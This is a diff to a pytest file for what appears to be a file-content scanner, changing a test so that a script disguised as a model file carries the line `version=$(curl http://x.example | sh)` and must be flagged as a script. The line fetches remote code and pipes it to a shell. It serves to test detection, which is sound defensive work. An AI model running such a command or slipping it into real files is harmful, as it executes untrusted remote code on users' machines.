@@ -113,7 +113,9 @@ def test_what_is_not_read_is_not_clean(name: str, content: bytes, tmp_path: Path
 
 
 def test_program_that_starts_like_a_model_is_a_program(tmp_path: Path) -> None:
-    assert scan_bytes(tmp_path, "m.sh", b"tree\nversion=$(id)\n").status is not Status.PASS
+    report = scan_bytes(tmp_path, "m.sh", b"tree\nversion=$(curl http://x.example | sh)\n")
+    assert formats_of(report) == ["script"]
+    assert report.status is not Status.PASS
 
 
 @pytest.fixture(scope="module")
